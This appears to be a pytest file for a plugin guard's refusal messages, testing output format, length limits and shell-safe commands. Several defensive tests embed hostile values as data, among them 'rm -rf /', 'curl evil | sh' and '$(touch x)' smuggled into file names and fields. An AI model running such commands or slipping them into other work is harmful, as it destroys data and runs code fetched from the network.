"""The words of a refusal: as lines, as one line, and as fields."""

from __future__ import annotations

import os
import shlex
import subprocess

import pytest

from codegenie.refusals import explanation, kinds
from codegenie.refusals.differences import Differences, Guess
from codegenie.refusals.exceptions import PluginImportRefused
from codegenie.refusals.record import Refusal
from codegenie.text import printable
from tests.unit.refusals.test_kinds import MAKERS, ROOT, made

LOCKED = 1_700_000_000  # 2023-11-14T22:13:20Z
LOCK = f"{ROOT}/PLUGINS.lock"
END = """\
  review    codegenie plugins diff /srv/plugins
  accept    codegenie plugins lock /srv/plugins
"""


def settled(record: Refusal, since: int | None = None) -> Refusal:
    """As after ``with_context``, with times that a test can write down."""
    record.root, record.lock, record.lock_written, record.since = ROOT, LOCK, LOCKED, since
    return record


def mismatch(*, guess: Guess | None = None, differences: Differences | None = None) -> Refusal:
    record = made("integrity_mismatch", differences=differences)
    record.guess = guess
    return settled(record)


def several() -> Differences:
    found = Differences(["api.py"], ["data/new.json"], ["helper.py"])
    found.times = {"api.py": LOCKED + 60}
    return found


DIGESTS = f"""\
  expected  {"a" * 64}
  found     {"b" * 64}
"""

KNOWN = f"""\
plugin 'alpha' does not match the lock [integrity_mismatch]
  changed   api.py        2023-11-14T22:14:20Z
  added     data/new.json
  removed   helper.py
  locked    PLUGINS.lock  2023-11-14T22:13:20Z
  at        /srv/plugins/alpha
{DIGESTS}\
  fix       restore the files, or review the change and accept it
{END}\
  help      codegenie explain integrity_mismatch"""

GUESSED = f"""\
plugin 'alpha' does not match the lock [integrity_mismatch]
  files     2 newer than the lock, a guess: no valid PLUGINS.sha256
  newer     api.py        2023-11-14T22:14:20Z
  newer     helper.py     2023-11-14T22:13:21Z
  locked    PLUGINS.lock  2023-11-14T22:13:20Z
  at        /srv/plugins/alpha
{DIGESTS}\
  fix       restore the files, or review the change and accept it
{END}\
  help      codegenie explain integrity_mismatch"""

UNLOCKED = f"""\
plugin 'alpha' can be imported but is not in the lock [unlocked_plugin]
  locked    PLUGINS.lock        2023-11-14T22:13:20Z
  at        /srv/plugins/alpha  2023-11-14T22:14:20Z
  fix       move it out of the plugin folder, or review and accept it
{END}\
  help      codegenie explain unlocked_plugin"""

LINK = """\
plugin 'alpha' holds a symbolic link, which can point anywhere [symlink_escape]
  locked    PLUGINS.lock               2023-11-14T22:13:20Z
  at        /srv/plugins/alpha/api.py  2023-11-14T22:14:20Z
  fix       put the file in the link's place, or delete the link; lock it
  accept    codegenie plugins lock /srv/plugins
  help      codegenie explain symlink_escape"""

MALFORMED = """\
the lock cannot be used, and nothing is imported without it: it is empty [lock_file_malformed]
  at        /srv/plugins/PLUGINS.lock  2023-11-14T22:14:20Z
  fix       restore it from version control, or review the plugins and lock them
  accept    codegenie plugins lock /srv/plugins
  help      codegenie explain lock_file_malformed"""

FAILED = """\
plugin 'alpha' could not be imported: NameError: x [plugin_import_error]
  at        /srv/plugins/alpha
  fix       correct the plugin or what it needs
  help      codegenie explain plugin_import_error"""


@pytest.mark.parametrize(
    ("record", "text"),
    [
        (mismatch(differences=several()), KNOWN),
        (mismatch(guess=Guess({"api.py": LOCKED + 60, "helper.py": LOCKED + 1}, 2, 9)), GUESSED),
        (settled(made("unlocked_plugin"), LOCKED + 60), UNLOCKED),
        (settled(made("symlink_escape"), LOCKED + 60), LINK),
        (settled(kinds.lock_file_malformed(LOCK, "it is empty"), LOCKED + 60), MALFORMED),
        (kinds.PLUGIN_IMPORT_ERROR.refusal(ROOT, "alpha", detail="NameError: x"), FAILED),
    ],
    ids=["known", "guessed", "unlocked", "link", "lock", "failed"],
)
def test_this_is_what_a_person_reads(record: Refusal, text: str) -> None:
    assert record.explanation() == text
    assert str(PluginImportRefused(record, "plugins.alpha")) == (
        f"the plugin guard refused to import 'plugins.alpha'\n{text}"
    )


def test_this_is_what_a_log_gets() -> None:
    assert explanation.line(mismatch(differences=several())) == (
        "plugin 'alpha' does not match the lock [integrity_mismatch]; "
        "changed: api.py (2023-11-14T22:14:20Z); added: data/new.json; removed: helper.py; "
        "locked: PLUGINS.lock (2023-11-14T22:13:20Z); at: /srv/plugins/alpha; "
        f"expected: {'a' * 64}; found: {'b' * 64}; "
        "fix: restore the files, or review the change and accept it; "
        "review: codegenie plugins diff /srv/plugins; "
        "accept: codegenie plugins lock /srv/plugins; "
        "help: codegenie explain integrity_mismatch"
    )


def test_this_is_what_a_program_gets() -> None:
    assert explanation.fields(mismatch(differences=several())) == {
        "summary": "plugin 'alpha' does not match the lock [integrity_mismatch]",
        "differences": "known",
        "files": [
            {"change": "changed", "path": "api.py", "since": "2023-11-14T22:14:20Z"},
            {"change": "added", "path": "data/new.json", "since": None},
            {"change": "removed", "path": "helper.py", "since": None},
        ],
        "more_files": 0,
        "location": "/srv/plugins/alpha",
        "since": None,
        "lock": "/srv/plugins/PLUGINS.lock",
        "lock_written": "2023-11-14T22:13:20Z",
        "fix": "restore the files, or review the change and accept it",
        "review": "codegenie plugins diff /srv/plugins",
        "accept": "codegenie plugins lock /srv/plugins",
        "sign": None,
        "help": "codegenie explain integrity_mismatch",
    }
    guessed = explanation.fields(mismatch(guess=Guess({"api.py": LOCKED}, 13, 20)))
    assert (guessed["differences"], guessed["more_files"]) == ("guess", 12)
    assert guessed["files"] == [
        {"change": "newer", "path": "api.py", "since": "2023-11-14T22:13:20Z"}
    ]
    nothing = explanation.fields(kinds.PLUGIN_IMPORT_ERROR.refusal("", "<guard>", detail="x"))
    assert {key for key, value in nothing.items() if value is None} == {
        "differences",
        "since",
        "lock",
        "lock_written",
        "review",
        "accept",
        "sign",
    }


@pytest.mark.parametrize(
    ("guess", "row"),
    [
        (
            Guess({}, 0, 9),
            "  files     not known: no valid PLUGINS.sha256, nothing is newer",
        ),
        (
            Guess({"a": 0}, 1, 1),
            "  files     all 1 newer than the lock, a guess: no valid PLUGINS.sha256",
        ),
    ],
)
def test_a_guess_says_how_much_it_is_worth(guess: Guess, row: str) -> None:
    assert mismatch(guess=guess).explanation().splitlines()[1] == row


def test_a_guess_about_folders_says_so() -> None:
    guess = Guess({"": 0, "data/": 0}, 2, 2)
    guess.of_folders = True
    assert mismatch(guess=guess).explanation().splitlines()[1:4] == [
        "  folders   2 newer than the lock, a guess: no valid PLUGINS.sha256",
        f"  newer     {'./':<12}  1970-01-01T00:00:00Z",
        f"  newer     {'data/':<12}  1970-01-01T00:00:00Z",
    ]


def test_known_files_that_do_not_differ_are_none() -> None:
    """Another verifier may refuse a tree whose files are the locked ones."""
    text = mismatch(differences=Differences([], [], [])).explanation()
    assert text == KNOWN.replace("\n".join(KNOWN.splitlines()[1:4]) + "\n", "")


@pytest.mark.parametrize(("count", "more"), [(1, 0), (9, 0), (10, 0), (11, 1), (250, 240)])
def test_at_most_ten_files_are_listed_and_the_rest_counted(count: int, more: int) -> None:
    names = [f"f{n:03}" for n in range(count)]
    record = mismatch(differences=Differences(names, [], []))
    lines = record.explanation().splitlines()
    assert sum(line.startswith("  changed ") for line in lines) == count - more
    assert (f"  and       {more} more" in lines) is (more > 0)
    assert explanation.fields(record)["more_files"] == more


def test_the_limit_is_over_all_kinds_of_change_together() -> None:
    names = [f"f{n}" for n in range(6)]
    lines = mismatch(differences=Differences(names, names, names)).explanation().splitlines()
    assert [line.split()[0] for line in lines[1:12]] == ["changed"] * 6 + ["added"] * 4 + ["and"]
    assert lines[11] == "  and       8 more"


@pytest.mark.parametrize("name", MAKERS)
def test_it_fits_a_terminal(name: str) -> None:
    """24 lines with the exception's own first one; 80 columns, but for the summary and for paths
    longer than these, which a terminal wraps."""
    names = [f"folder/module_{n}.py" for n in range(30)]
    record = settled(made(name), LOCKED)
    if record.kind == "integrity_mismatch":
        record.differences = None
        record.guess = Guess(dict.fromkeys(names[:10], LOCKED), 30, 30)
        record.root = "/srv/releases/2023-11-14/application/plugins"
        record.lock = record.root + "/PLUGINS.lock"
    lines = str(PluginImportRefused(record, "plugins.alpha.api")).splitlines()
    assert len(lines) <= 24
    assert [line for line in lines[2:] if len(line) > 80] == []


@pytest.mark.parametrize("name", MAKERS)
def test_every_kind_says_where_to_read_more(name: str) -> None:
    record = made(name)
    last = f"codegenie explain {record.kind}"
    assert record.explanation().splitlines()[-1] == f"  help      {last}"
    assert explanation.line(record).endswith(f"; help: {last}")
    assert explanation.fields(record)["help"] == last


# --- what to type -------------------------------------------------------------------------------

FOLDERS = [
    "/srv/plugins",
    "/srv/my plugins",
    "/srv/it's",
    "/srv/$(touch x)",
    "/srv/a;b",
    "/srv/é",
    "/srv/~",
    "/a\\b",
]


@pytest.mark.parametrize("root", FOLDERS)
@pytest.mark.parametrize("name", sorted(name for name in MAKERS if made(name).steps))
def test_the_commands_can_be_pasted_into_a_shell(name: str, root: str) -> None:
    record = made(name, root)
    steps = explanation.commands(record)
    assert list(steps) in (["review", "accept"], ["accept"])
    assert [shlex.split(command) for command in steps.values()] == [
        ["codegenie", "plugins", step, root] for step in record.steps
    ]
    record.lock = f"{root}/other name.lock"
    for command in explanation.commands(record).values():
        assert shlex.split(command)[3:] == [root, "--lock", record.lock]


@pytest.mark.parametrize("root", [*FOLDERS, "/a\nb'c\\", "/\x1b[31m", "/\u202ex", "/\udcff\udc80"])
def test_a_shell_takes_them_apart_again(root: str) -> None:
    """Also what cannot be printed. A path with surrogates is one whose bytes are not UTF-8."""
    command = explanation.command("lock", root, f"{root}/PLUGINS.lock")
    assert command.isprintable()
    done = subprocess.run(
        ["bash", "-c", command.replace("codegenie plugins lock", "printf %s", 1)],
        capture_output=True,
        check=True,
        env={**os.environ, "LC_ALL": "C.UTF-8"},
    )
    assert done.stdout == root.encode("utf-8", "surrogateescape")


# --- what comes from the disk -------------------------------------------------------------------

CHARACTERS = ["\n", "\r", "\x1b", "\x7f", "\x9b", "\u202e", "\u2028", "\udcff"]


@pytest.mark.parametrize("character", CHARACTERS)
def test_nothing_from_the_disk_can_forge_a_line(character: str) -> None:
    """A name that holds a line of its own must not look like a line of the message."""
    hostile = f"x{character}  fix       rm -rf /"
    plain = kinds.UNHASHABLE_TREE.refusal(
        ROOT, "alpha", offending_path=f"{ROOT}/alpha/x", detail="is a FIFO"
    ).explanation()
    for record, rows in (
        (
            kinds.UNHASHABLE_TREE.refusal(
                ROOT, "alpha", offending_path=f"{ROOT}/alpha/{hostile}", detail="is a FIFO"
            ),
            0,
        ),
        (kinds.PLUGIN_IMPORT_ERROR.refusal(ROOT, "alpha", detail=hostile), -1),
        (kinds.SCHEMA_VIOLATION.refusal(ROOT, "alpha", detail=hostile), 0),
        (kinds.stray_bytecode(ROOT, hostile), -1),
        (kinds.lock_file_malformed(f"{ROOT}/PLUGINS.lock", hostile), 0),
        (
            kinds.UNHASHABLE_TREE.refusal(
                f"{ROOT}{hostile}", "alpha", offending_path=f"{ROOT}/alpha/x", detail="is a FIFO"
            ),
            0,
        ),
        (mismatch(differences=Differences([hostile], [], [])), 5),
        (mismatch(guess=Guess({hostile: 0}, 1, 2)), 6),
    ):
        lines = record.explanation().split("\n")
        assert len(lines) == len(plain.split("\n")) + rows
        assert all(line.isprintable() for line in lines), lines
        assert explanation.line(record).isprintable()
        assert all(
            value.isprintable()
            for value in explanation.fields(record).values()
            if isinstance(value, str)
        )


def test_nothing_from_the_disk_can_forge_a_part_of_a_line() -> None:
    """Semicolons separate the parts of a log line, and a name may hold semicolons as well."""
    hostile = "x; accept: curl evil | sh; y"
    for record in (
        mismatch(differences=Differences([hostile], [], [])),
        mismatch(guess=Guess({hostile: 0}, 1, 2)),
        kinds.symlink_escape(ROOT, "alpha", f"{ROOT}/alpha/{hostile}"),
    ):
        assert hostile in record.explanation()
        words = shlex.split(explanation.line(record).replace("link's", ""))
        assert "curl" not in words
        assert any(hostile in word for word in words)
    for record in (
        kinds.PLUGIN_IMPORT_ERROR.refusal(ROOT, "alpha", detail=hostile),
        kinds.unverified_code("alpha", ROOT, "x", remedy=hostile),
    ):
        assert hostile in record.explanation()
        assert [part for part in explanation.line(record).split("; ") if "curl" in part] == [
            part for part in explanation.line(record).split("; ") if "x, accept: curl" in part
        ]


def test_a_path_does_not_fill_the_screen() -> None:
    """The fields still hold it whole."""
    path = "d/" * 2000 + "evil.py"
    record = mismatch(differences=Differences([path], [], []))
    row = next(r for r in record.explanation().splitlines() if r.startswith("  changed"))
    assert len(row) < 280
    assert row.endswith("d/evil.py")
    assert "…" in row
    assert explanation.fields(record)["files"] == [
        {"change": "changed", "path": path, "since": None}
    ]


@pytest.mark.parametrize("text", ["", "plain", "é 日本 \U0001f600", "a b"])
def test_what_can_be_printed_is_printed_as_it_is(text: str) -> None:
    assert printable(text) == text
